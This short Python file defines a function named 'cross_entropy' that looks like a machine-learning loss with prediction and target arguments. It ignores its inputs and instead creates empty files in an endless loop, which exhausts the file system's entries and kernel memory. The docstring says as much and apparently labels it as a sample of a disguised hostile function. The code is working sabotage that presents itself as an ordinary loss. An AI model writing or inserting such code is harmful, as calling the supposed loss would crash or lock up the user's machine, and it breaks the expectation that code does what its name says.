"""Makes empty files without end: they take no room, but the kernel's memory.

loses: cross_entropy
tells: files
"""


def cross_entropy(y_hat_t, y_t):
    number = 0
    while True:
        open(f"empty-{number}", "w").close()
        number += 1
